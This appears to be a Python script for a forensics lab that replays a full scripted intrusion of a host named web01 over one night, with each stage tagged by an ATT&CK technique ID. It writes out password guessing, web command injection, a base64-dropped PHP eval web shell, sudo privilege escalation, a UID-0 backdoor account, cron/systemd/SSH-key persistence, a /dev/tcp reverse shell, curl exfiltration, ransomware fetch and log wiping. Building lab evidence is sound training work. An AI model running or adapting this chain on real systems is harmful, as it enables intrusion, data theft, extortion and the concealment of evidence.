# SPDX-License-Identifier: Apache-2.0
"""The one intrusion of web01, in six stages, done by hand over the lab's own wires with inert payloads."""

from __future__ import annotations

import base64
import threading
import time
from datetime import datetime
from pathlib import Path
from urllib.parse import quote, quote_plus

from actors import Terminal, fetch, guess, record
from life import Event, at

GUESSER = "203.0.113.66"
WEB = "198.51.100.23"
DROP = "198.51.100.99"
CURL = "curl/7.88.1"
WEAK = "deploy2025"
SHELL = '<?php die("inert specimen of a forensic sample"); @eval($_POST["pass"]); ?>\n'
NAMES = ["root", "admin", "test", "oracle", "ubuntu", "git", "postgres", "ftpuser", "www", "mysql", "alice", "deploy"]
WORDS = ["123456", "password", "admin123", "root", "qwerty", "1q2w3e4r", "P@ssw0rd", "12345678", "abc123", "letmein"]


def stage(ident: str, name: str, technique: str, source: str, account: str, **more: object) -> None:
    """Note the beginning of a step in the lab's record."""
    record(act="step", id=ident, stage=name, technique=technique, source=source, account=account, **more)


def reconnaissance() -> None:
    """Sunday evening: a few guesses and a look at the site, under the threshold of most people."""
    stage("recon", "abnormal_login", "T1110.001", GUESSER, "")
    for name in NAMES[:6]:
        guess(GUESSER, name, WORDS[:3])
        time.sleep(40)
    for page in ["/", "/robots.txt", "/admin/", "/upload.php", "/shell.php", "/cmd.php", "/manager/", "/info.php"]:
        fetch(GUESSER, page, "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)")
        time.sleep(1)


def worker(names: list[str]) -> None:
    """One of the guesser's two hands: five connections of three words a name."""
    for name in names:
        for n in range(5):
            guess(GUESSER, name, [WORDS[(n * 3 + k) % len(WORDS)] + ("" if n < 4 else "!") for k in range(3)])


def break_in() -> None:
    """Guessing, then the weak password of the deployment account at 03:12."""
    stage("guessing", "abnormal_login", "T1110.001", GUESSER, "")
    hands = [threading.Thread(target=worker, args=(NAMES[k::2],)) for k in (0, 1)]
    for h in hands:
        h.start()
    for h in hands:
        h.join()
    while datetime.now(at(9, 3, 12).tzinfo) < at(9, 3, 12, 5):
        time.sleep(5)
    stage("first_login", "abnormal_login", "T1078.003", GUESSER, "deploy")
    t = Terminal(GUESSER, "deploy", ["deploy123", WEAK], who="intruder")
    for line in ["w", "id", "uname -a", "sudo -l", "cat /etc/passwd", "ls -la /var/www/html /srv/data"]:
        t.type(line, 6)
    t.leave()


def exploit() -> None:
    """Commands over the web through /cmd.php, in several encodings; a web shell is written and called."""
    stage("web_commands", "exploitation", "T1190", WEB, "www-data")

    def ask(query: str) -> None:
        status = fetch(WEB, f"/cmd.php?{query}", CURL)
        record(act="web", source=WEB, query=query, status=status)
        time.sleep(11)

    ask("cmd=id")
    ask("cmd=" + quote("uname -a"))
    ask("cmd=" + quote_plus("cat /etc/passwd"))
    ask("cmd=%77%68%6f%61%6d%69")
    ask("cmd=" + quote("mkdir -p /tmp/.x", safe=""))
    ask("cmd=" + quote(f"wget -q http://{DROP}/lp.sh -O /tmp/.x/lp.sh", safe=""))
    stage("web_shell", "exploitation", "T1505.003", WEB, "www-data")
    coded = base64.b64encode(SHELL.encode()).decode()
    ask("cmd=" + quote(f"echo {coded}|base64 -d > /var/www/html/uploads/img_thumb.php", safe=""))
    ask("cmd=" + quote("ls -la uploads; chmod 777 /tmp/.x", safe=""))
    for body in ("pass=phpinfo();", "pass=system('id');"):
        status = fetch(WEB, "/uploads/img_thumb.php", "antSword/v2.1", "POST", body)
        record(act="web", source=WEB, query="POST /uploads/img_thumb.php", status=status)
        time.sleep(20)


def root_by_sudo() -> None:
    """sudo find to a root shell; then the account, the cron entry, the unit, the key and rc.local."""
    t = Terminal(GUESSER, "deploy", [WEAK], who="intruder")
    t.type("cd /tmp/.x && ls -la", 5)
    t.type("sh lp.sh", 8)
    t.type("sudo -l", 5)
    stage("sudo_find", "privilege_escalation", "T1548.003", GUESSER, "deploy")
    t.type("sudo find . -exec /bin/sh \\; -quit", 3)
    t.type("id", 3)
    t.type("bash", 3)
    stage("uid0_account", "privilege_escalation", "T1136.001", GUESSER, "root")
    t.type("useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysd0", 5)
    t.type("echo 'sysd0:Xk9-2wq' | chpasswd", 5)
    t.type("grep :0: /etc/passwd", 4)
    stage("cron_entry", "persistence", "T1053.003", GUESSER, "root")
    t.type(f"mkdir -p /var/lib/.sysd; curl -s http://{DROP}/upd.sh -o /var/lib/.sysd/upd.sh", 6)
    t.type("chmod +x /var/lib/.sysd/upd.sh", 3)
    t.type("echo '*/10 * * * * root /var/lib/.sysd/upd.sh >/dev/null 2>&1' > /etc/cron.d/sysd-update", 6)
    stage("systemd_unit", "persistence", "T1543.002", GUESSER, "root")
    unit = "[Unit]\\nDescription=System Network Helper\\n[Service]\\nType=oneshot\\nRemainAfterExit=yes\\n"
    unit += "ExecStart=/var/lib/.sysd/upd.sh\\n[Install]\\nWantedBy=multi-user.target\\n"
    t.type(f"printf '{unit}' > /etc/systemd/system/sysd-net.service", 5)
    t.type("systemctl daemon-reload && systemctl enable --now sysd-net.service", 8)
    stage("root_key", "persistence", "T1098.004", GUESSER, "root")
    key = Path("/lab/keys/attacker.pub").read_text("ascii").strip()
    t.type(f"mkdir -p /root/.ssh; echo '{key}' >> /root/.ssh/authorized_keys; chmod 600 /root/.ssh/authorized_keys", 6)
    stage("rc_local", "persistence", "T1037.004", GUESSER, "root")
    t.type("sed -i '/^exit 0/i /var/lib/.sysd/upd.sh &' /etc/rc.local", 5)
    t.leave(3)


def further() -> None:
    """As root by the planted key: db01, the scan, the data, the renaming."""
    t = Terminal(GUESSER, "root", key="attacker", who="intruder")
    stage("root_login", "lateral_movement", "T1021.004", GUESSER, "root")
    t.type("w; ip -br addr; cat /etc/hosts", 6)
    stage("internal_scan", "lateral_movement", "T1046", GUESSER, "root", target="10.20.0.8")
    t.type("for p in 22 80 443 3306 5432 6379 8080; do nc -zv -w1 10.20.0.8 $p; done", 6)
    stage("ssh_db01", "lateral_movement", "T1021.004", GUESSER, "root", target="10.20.0.8")
    t.type("ssh -o NumberOfPasswordPrompts=2 dbadmin@10.20.0.8", 5, ["dbadmin", "dbadmin123"])
    t.type("ssh deploy@10.20.0.8 'hostname; id'", 6, [WEAK])
    stage("outbound_attack", "lateral_movement", "T1595.001", GUESSER, "root", target="192.0.2.0/24")
    t.type("for h in $(seq 240 247); do nc -zv -w1 192.0.2.$h 22; done", 6)
    t.type(f"bash -c 'bash -i >& /dev/tcp/{DROP}/4444 0>&1'", 6)
    stage("exfiltration", "exfiltration_encryption", "T1048.003", GUESSER, "root", target=DROP)
    t.type("tar czf /var/tmp/.d.tgz -C /srv data", 6)
    t.type(f"curl -s -T /var/tmp/.d.tgz http://{DROP}/up/web01.tgz", 6)
    t.type("rm -f /var/tmp/.d.tgz", 5)
    stage("encryption", "exfiltration_encryption", "T1486", GUESSER, "root")
    t.type(f"curl -s http://{DROP}/lock.sh -o /var/lib/.sysd/lock.sh", 5)
    t.type("sh -c 'unset HISTFILE; sh /var/lib/.sysd/lock.sh /srv/data'", 5)
    t.type(f"curl -s http://{DROP}/note.txt | tee /srv/data/README_RESTORE.txt > /root/README_RESTORE.txt", 6)
    t.leave()


def sweep() -> None:
    """The broom, in a session that leaves no history of its own."""
    t = Terminal(GUESSER, "root", key="attacker", who="intruder")
    t.type("unset HISTFILE", 3)
    stage("log_cleaning", "exfiltration_encryption", "T1070.002", GUESSER, "root")
    t.type("ls -la /var/log", 5)
    t.type("rm -f /var/log/auth.log.1", 5)
    said = t.type("n=$(($(stat -c %s /var/log/wtmp) / 384)); echo records=$n", 5)
    record(act="wtmp", said=said)
    t.type("dd if=/dev/zero of=/var/log/wtmp bs=384 seek=$((n-7)) count=6 conv=notrunc", 5)
    stage("history_cleaning", "exfiltration_encryption", "T1070.003", GUESSER, "root")
    t.type("sed -i '/lp.sh/d' /home/deploy/.bash_history", 5)
    t.type("rm -rf /tmp/.x", 5)
    t.type("last -n 5", 5)
    t.leave()


def night() -> list[Event]:
    """The intruder's events."""
    return [
        (at(8, 21, 40, 12), reconnaissance),
        (at(9, 2, 47, 30), break_in),
        (at(9, 3, 17, 20), exploit),
        (at(9, 3, 31, 5), root_by_sudo),
        (at(9, 3, 55, 18), further),
        (at(9, 4, 12, 40), sweep),
    ]
